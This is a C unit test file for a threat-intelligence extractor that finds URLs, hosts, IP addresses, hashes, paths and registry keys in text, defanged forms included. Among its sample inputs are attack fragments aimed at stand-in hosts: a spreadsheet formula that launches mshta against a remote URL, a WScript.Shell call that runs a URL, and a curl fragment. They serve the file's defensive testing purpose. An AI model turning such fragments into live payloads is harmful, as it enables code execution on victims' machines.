/* test_found.c - what is found in one line of text, and what is not. A case is a text and what it
 * gives: "kind=value" with "*" behind for what was defanged, in order. */
#include "base/buf.h"
#include "extract/extract.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static bool add(void *ctx, const struct extract_item *item)
{
    struct hn_buf *out = ctx;

    if (out->len > 0)
        hn_buf_add_char(out, ' ');
    hn_buf_add_cstr(out, extract_kind_id(item->kind));
    hn_buf_add_char(out, '=');
    hn_buf_add_text(out, item->value);
    if (item->port != 0 && item->kind != EXTRACT_URL)
        hn_buf_addf(out, ":%u", (unsigned)item->port);
    if (item->marks & EXTRACT_DEFANGED)
        hn_buf_add_char(out, '*');
    return true;
}

struct sample {
    const char *text;
    const char *found;
};

static void check(const struct sample *samples, size_t count, enum extract_strictness strictness)
{
    struct extract_options options = { .strictness = strictness };
    struct extract *extract = extract_new();
    unsigned failed = 0;

    assert_non_null(extract);
    for (size_t i = 0; i < count; i++) {
        struct hn_buf out = { 0 };

        (void)extract_text(extract, hn_text_cstr(samples[i].text), &options, add, &out);
        if (!hn_text_eq(hn_buf_text(&out), hn_text_cstr(samples[i].found))) {
            print_error("%s\n  gives   %.*s\n  expected %s\n", samples[i].text,
                    HN_TEXT_ARG(hn_buf_text(&out)), samples[i].found);
            failed++;
        }
        hn_buf_deinit(&out);
    }
    extract_free(extract);
    assert_int_equal(failed, 0);
}

static void urls(void **state)
{
    static const struct sample samples[] = {
        { "see http://evil.example/a.php.", "url=http://evil.example/a.php" },
        { "(http://evil.example/a_(b))", "url=http://evil.example/a_(b)" },
        { "HTTP://EVIL.Example:8080/A?b=C#d, and", "url=http://evil.example:8080/A?b=C#d" },
        { "=cmd|'/c mshta http://evil.example/a'!A1,2", "url=http://evil.example/a" },
        /* Ports of WebDAV are no hosts; resources of a library are no addresses. */
        { "URL=file://203.0.113.5@80/dav/run.hta", "url=file://203.0.113.5@80/dav/run.hta" },
        { "file://dav.example@SSL@8443/x.lnk", "url=file://dav.example@SSL@8443/x.lnk" },
        { "file://dav.example@ssl/x", "url=file://dav.example@ssl/x" },
        { "file://user@files.example/x", "url=file://user@files.example/x" },
        { "res://apds.dll/redirect.html?target=x", "" },
        { "<a href=\"http://evil.example/x?y&amp;z\">", "url=http://evil.example/x?y&z" },
        { "http://user:pw@evil.example/", "url=http://user:pw@evil.example/" },
        { "http://evil.exampleにアクセス", "url=http://evil.example" },
        { "「http://evil.example/a」、「http://b.example/。」",
                "url=http://evil.example/a url=http://b.example/" },
        { "http://evil.example/a.phpを開く", "url=http://evil.example/a.php" },
        { "http://日本語.example/x", "url=http://xn--wgv71a119e.example/x" },
        { "http://192.0.2.1/x", "url=http://192.0.2.1/x" },
        { "http://[2001:db8::1]:8080/x", "url=http://[2001:db8::1]:8080/x" },
        { "http://3221225985/x http://0xc0.0.2.1/",
                "url=http://192.0.2.1/x url=http://192.0.2.1/" },
        { "http://a.example/x/@http://b.example/y/@https://c.example/z",
                "url=http://a.example/x/ url=http://b.example/y/ url=https://c.example/z" },
        { "http://a.example/x,http://b.example/y",
                "url=http://a.example/x url=http://b.example/y" },
        { "http://a.example*http://b.example", "url=http://a.example url=http://b.example" },
        { "http://r.example/?u=http://evil.example/x",
                "url=http://r.example/?u=http://evil.example/x url=http://evil.example/x" },
        { "http://r.example/?u=https%3A%2F%2Fevil.example%2Fx",
                "url=http://r.example/?u=https%3A%2F%2Fevil.example%2Fx "
                "url=https://evil.example/x" },
        { "evil.com/gate.php?id=1", "url=evil.com/gate.php?id=1" },
        { "ftp://evil.example/x tcp://evil.example:4444",
                "url=ftp://evil.example/x url=tcp://evil.example:4444" },
        { "git+ssh://evil.example/x a://b.example/svn+ssh://c.example",
                "url=git+ssh://evil.example/x url=svn+ssh://c.example" },
        { "'http://evil.example/x','C:\\a\\b.exe'", "url=http://evil.example/x path=C:\\a\\b.exe" },
        { "http:\\/\\/evil.example\\/x", "url=http://evil.example/x*" },
        { "&quot;http://evil.example/x&quot;", "url=http://evil.example/x" },
        { "http://evil.example/x&&curl -o y", "url=http://evil.example/x" },
        { "http://evil.example/x?a=1&&b=2", "url=http://evil.example/x?a=1&&b=2" },
        { "http:// and https://", "" },
        { "//evil.com/x", "url=evil.com/x" },
        { "http://localhost:80/x", "url=http://localhost:80/x" },
    };

    (void)state;
    check(samples, HN_COUNT_OF(samples), EXTRACT_PROSE);
}

static void defanged(void **state)
{
    static const struct sample samples[] = {
        { "hxxp://evil[.]example/a", "url=http://evil.example/a*" },
        { "hXXps[:]//evil(.)example[:]8443/a", "url=https://evil.example:8443/a*" },
        { "hxxps[://]evil{.}example[/]a", "url=https://evil.example/a*" },
        { "h**p://evil[dot]example", "url=http://evil.example*" },
        { "http[s]://evil (dot) example/", "url=https://evil.example/*" },
        { "evil [.] example", "host=evil.example*" },
        { "evil dot example is bad", "host=evil.example*" },
        { "www dot evil dot co dot jp", "host=www.evil.co.jp*" },
        { "connect the dot to the line", "" },
        { "evil\\.example", "host=evil.example*" },
        { "192[.]0[.]2[.]1", "ipv4=192.0.2.1*" },
        { "192.0.2[.]1:443", "ipv4=192.0.2.1:443*" },
        { "192.0.2.1[:]443", "ipv4=192.0.2.1:443*" },
        { "2001[:]db8[:][:]1", "ipv6=2001:db8::1*" },
        { "user[@]evil[.]example", "email=user@evil.example*" },
        { "user (at) evil (dot) example", "email=user@evil.example*" },
        { "user at evil dot example", "email=user@evil.example*" },
        { "C2 at evil[.]example now", "host=evil.example*" },
        { "ｈｔｔｐ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ａ", "url=http://evil.example/a*" },
        { "http://ev\xE2\x80\x8Bil.example/a", "url=http://evil.example/a" },
        { "evil。example", "host=evil.example*" },
        { "通信先はevil[.]example。次に", "host=evil.example*" },
        { "evil.example。別のevil.test。", "host=evil.example host=evil.test" },
        { "evil[.]md and evil[.]sh", "host=evil.md* host=evil.sh*" },
        { "evil[.example", "host=evil.example*" },
        { "hxxp://evil。example／ａ", "url=http://evil.example/a*" },
        { "hxtp://evil.example/", "url=http://evil.example/*" },
        { "evil［．］example", "host=evil.example*" },
        { "evil[ドット]example", "host=evil.example*" },
    };

    (void)state;
    check(samples, HN_COUNT_OF(samples), EXTRACT_PROSE);
}

static void hosts(void **state)
{
    static const struct sample samples[] = {
        { "EVIL.COM and Evil.com", "host=evil.com host=evil.com" },
        { "host: evil.example.", "host=evil.example" },
        { "evil.com:8080", "host=evil.com:8080" },
        { "*.evil.com", "host=evil.com" },
        { "攻撃者はevil.jpを使う", "host=evil.jp" },
        { "「日本語.jp」", "host=xn--wgv71a119e.jp" },
        { "аррӏе.com", "host=xn--80ak6aa92e.com" },
        { "xn--wgv71a119e.jp", "host=xn--wgv71a119e.jp" },
        { "click on evil-shop.click now", "host=evil-shop.click" },
        { "evil.shop, next", "host=evil.shop" },
        { "@evil.com", "host=evil.com" },
        { "invoice.doc and setup.exe", "file=invoice.doc file=setup.exe" },
        { "README.md build.sh main.rs", "file=README.md file=build.sh file=main.rs" },
        { "System.IO System.Net.WebClient WScript.Shell", "" },
        { "obj.name = 1; this.click(); x.run(y)", "" },
        { "e.g. this, i.e. that", "" },
        { "end of it.The next", "" },
        { "foo/bar.com/baz", "" },
        { "com.example.app", "" },
        { "$foo.com .com a.b", "" },
        { "version 1.2.3.4 and 10.0.0", "" },
        { "1.2.3.4.5 1.2.3 256.1.1.1", "" },
        { "asp.net vb.net", "" },
    };

    (void)state;
    check(samples, HN_COUNT_OF(samples), EXTRACT_PROSE);
}

static void code(void **state)
{
    static const struct sample samples[] = {
        { "x = document.location.host; y.link = z.run", "" },
        { "Sheets(1).Range(\"A1\").Select", "" },
        { "s = \"evil.com\"", "host=evil.com" },
        { "CreateObject(\"wscript.shell\").run \"http://evil.example/a\"",
                "url=http://evil.example/a" },
        { "Dim foo.com as bar.net", "" },
        { "a = \"www.evil.com\" & b", "host=www.evil.com" },
        { "nslookup evil[.]com", "host=evil.com*" },
    };

    (void)state;
    check(samples, HN_COUNT_OF(samples), EXTRACT_CODE);
}

static void others(void **state)
{
    static const struct sample samples[] = {
        { "d41d8cd98f00b204e9800998ecf8427e", "md5=d41d8cd98f00b204e9800998ecf8427e" },
        { "SHA1: DA39A3EE5E6B4B0D3255BFEF95601890AFD80709.",
                "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709" },
        { "hash=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
                "sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" },
        { "12345678901234567890123456789012", "" },
        { "https://vt.example/gui/file/"
          "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855/x",
                "url=https://vt.example/gui/file/"
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855/x "
                "sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" },
        { "user.name+tag@Evil.Example, x", "email=user.name+tag@evil.example" },
        { "Message-ID: <abc@mail.evil.com>\nFrom: a@b.example", "email=a@b.example" },
        { "192.0.2.1, 198.51.100.0/24; 10.0.0.1:8080",
                "ipv4=192.0.2.1 network=198.51.100.0/24 ipv4=10.0.0.1:8080" },
        { "2001:db8::1 and [2001:db8::2]:443 and 12:34:56 and std::add and ::1",
                "ipv6=2001:db8::1 ipv6=2001:db8::2:443 ipv6=::1" },
        { "2001:db8::/32", "network=2001:db8::/32" },
        { "CVE-2026-12345、cve-2017-11882", "cve=CVE-2026-12345 cve=CVE-2017-11882" },
        { "C:\\Program Files\\Evil Corp\\a.exe ran", "path=C:\\Program Files\\Evil Corp\\a.exe" },
        { "\"C:\\My Dir\\b c.exe\" x", "path=C:\\My Dir\\b c.exe" },
        { "C:\\\\Users\\\\x\\\\a.exe", "path=C:\\Users\\x\\a.exe" },
        { "%APPDATA%\\x\\y.dll, $env:TEMP\\z.ps1",
                "path=%APPDATA%\\x\\y.dll path=$env:TEMP\\z.ps1" },
        { "\\\\192.0.2.1\\share\\a.exe", "path=\\\\192.0.2.1\\share\\a.exe" },
        { "C:\\Users\\太郎\\a.exeを実行", "path=C:\\Users\\太郎\\a.exe" },
        { "drops /tmp/.x/y and /usr/bin/curl.", "unix_path=/tmp/.x/y unix_path=/usr/bin/curl" },
        { "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil.",
                "registry=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil" },
        { "HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
                "registry=HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" },
        { "creates the mutex \"Global\\M123\" and", "mutex=Global\\M123" },
        { "Mutex: abc-def", "mutex=abc-def" },
        { "ミューテックス「XYZ99」を", "mutex=XYZ99" },
        { "CreateMutexW(\"foo bar\")", "mutex=foo bar" },
        { "the mutex class of C++", "" },
        { "User-Agent: Mozilla/5.0 (X) Chrome/91.0.4.2\r\nHost: evil.example",
                "user_agent=Mozilla/5.0 (X) Chrome/91.0.4.2 host=evil.example" },
    };

    (void)state;
    check(samples, HN_COUNT_OF(samples), EXTRACT_PROSE);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(urls),
        cmocka_unit_test(defanged),
        cmocka_unit_test(hosts),
        cmocka_unit_test(code),
        cmocka_unit_test(others),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
